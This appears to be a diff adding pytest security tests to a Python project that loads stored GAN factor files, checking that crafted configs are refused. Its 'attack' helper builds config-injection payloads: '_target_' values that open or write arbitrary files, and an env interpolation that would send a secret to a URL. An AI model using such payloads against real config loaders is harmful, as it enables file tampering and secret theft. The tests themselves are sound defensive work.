@@ -1,0 +1,120 @@
+"""Files a run directory may come from someone else: opening them runs no code and reads no secrets."""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+import torch
+import yaml
+
+from panda.errors import ConfigError
+from panda.generators.dcgan import DCGANFaces
+from panda.runs import load_run
+from tests.conftest import LAYER, SHAPE, made_up_factors, run_script
+
+
+def write_factors(path: Path, gen: dict, generator: str = "dcgan_faces") -> Path:
+    """A ``factors.pt`` (old format, no checksum) whose stored training config has ``gen`` as its gen node."""
+    A, P = made_up_factors()
+    record = {"A": A, "P": P, "generator": generator, "layer": LAYER, "feature_shape": list(SHAPE)}
+    record |= {"ranks": {"parts": 8, "appearances": 16}, "config": yaml.safe_dump({"gen": gen})}
+    path.mkdir(parents=True, exist_ok=True)
+    torch.save(record, path / "factors.pt")
+    return path
+
+
+class _Listener(BaseHTTPRequestHandler):
+    requests: list[str] = []  # noqa: RUF012
+
+    def do_GET(self) -> None:
+        type(self).requests.append(self.path)
+        self.send_error(404)
+
+    def log_message(self, *args) -> None:
+        pass
+
+
+@pytest.fixture
+def listener():
+    _Listener.requests = []
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}"
+    httpd.shutdown()
+    httpd.server_close()
+
+
+def attack(kind: str, target: Path, url: str) -> tuple[dict, str]:
+    """A crafted gen node and the generator name it claims."""
+    if kind == "open":  # creates (or empties) any file
+        return {"name": "dcgan_faces", "net": {"_target_": "builtins.open", "file": str(target), "mode": "w"}}, (
+            "dcgan_faces"
+        )
+    if kind == "write_text":  # writes any file
+        path = {"_target_": "pathlib.Path", "_args_": [str(target)]}
+        net = {"_target_": "pathlib.Path.write_text", "_args_": [path, "written by a factors file"]}
+        return {"name": "dcgan_faces", "net": net}, "dcgan_faces"
+    weights = f"{url}/${{oc.env:PANDA_TEST_SECRET}}.pkl"  # sends an environment variable to a URL
+    net = {"_target_": "panda.generators.stylegan2.StyleGAN2", "weights": weights}
+    return {"name": "stylegan2_ffhq", "weights": weights, "net": net}, "stylegan2_ffhq"
+
+
+@pytest.mark.parametrize(
+    ("kind", "message"),
+    [
+        ("open", "gen.net._target_ 'builtins.open' is not the one of conf/gen/dcgan_faces.yaml"),
+        ("write_text", "gen.net._target_ 'pathlib.Path.write_text' is not the one of conf/gen/dcgan_faces.yaml"),
+        ("env", "holds an interpolation ('${'), which a loaded file may not use"),
+    ],
+)
+def test_a_crafted_factors_file_is_refused_and_does_nothing(tmp_path, listener, monkeypatch, kind, message):
+    monkeypatch.setenv("PANDA_TEST_SECRET", "s3cret")
+    monkeypatch.setenv("PANDA_CACHE", str(tmp_path / "cache"))
+    target = tmp_path / "victim.txt"
+    gen, generator = attack(kind, target, listener)
+    run_dir = write_factors(tmp_path / "run", gen, generator)
+    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
+    with pytest.raises(ConfigError) as error:
+        load_run(run_dir)
+    assert message in str(error.value) and "\n" not in str(error.value)
+    assert not target.exists()
+    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
+    assert _Listener.requests == []
+
+
+def test_a_crafted_factors_file_is_one_line_from_the_command_line(tmp_path, listener):
+    target = tmp_path / "victim.txt"
+    gen, generator = attack("write_text", target, listener)
+    run_dir = write_factors(tmp_path / "run", gen, generator)
+    done = run_script("evaluate.py", f"hydra.run.dir={tmp_path / 'out'}", "task=refine", f"run={run_dir}")
+    assert done.returncode == 2
+    output = done.stdout + done.stderr
+    assert "is not the one of conf/gen/dcgan_faces.yaml" in output and "Traceback" not in output
+    assert not target.exists()
+
+
+@pytest.mark.parametrize(
+    ("gen", "message"),
+    [
+        ({"name": "dcgan_faces", "net": {"random_init": True, "color": "red"}}, "unknown key gen.net.color"),
+        ({"name": "dcgan_faces", "net": {"weights": {"_target_": "os.getcwd"}}}, "gen.net.weights is a mapping in"),
+        ({"name": "biggan", "net": {"arch": {"_target_": "os.getcwd"}}}, "gen.net.arch._target_"),
+        ({"name": "stylegan2_ffhq", "net": {}}, "learnt for generator 'dcgan_faces', but their config is of 'styleg"),
+    ],
+)
+def test_a_stored_generator_config_takes_only_plain_values_of_known_keys(tmp_path, gen, message):
+    with pytest.raises(ConfigError) as error:
+        load_run(write_factors(tmp_path, gen, generator="biggan" if gen["name"] == "biggan" else "dcgan_faces"))
+    assert message in str(error.value)
+
+
+def test_the_generator_is_rebuilt_from_the_projects_config_and_the_stored_values(tmp_path, dcgan):
+    stored = {"name": "dcgan_faces", "random_init": True, "net": {"_target_": "panda.generators.dcgan.DCGANFaces"}}
+    run = load_run(write_factors(tmp_path, stored))
+    assert isinstance(run.generator, DCGANFaces) and run.feature_shape == SHAPE
+    pretrained, rebuilt = dcgan.state_dict(), run.generator.state_dict()
+    assert not all(torch.equal(pretrained[k], rebuilt[k]) for k in pretrained)  # random_init=true was taken
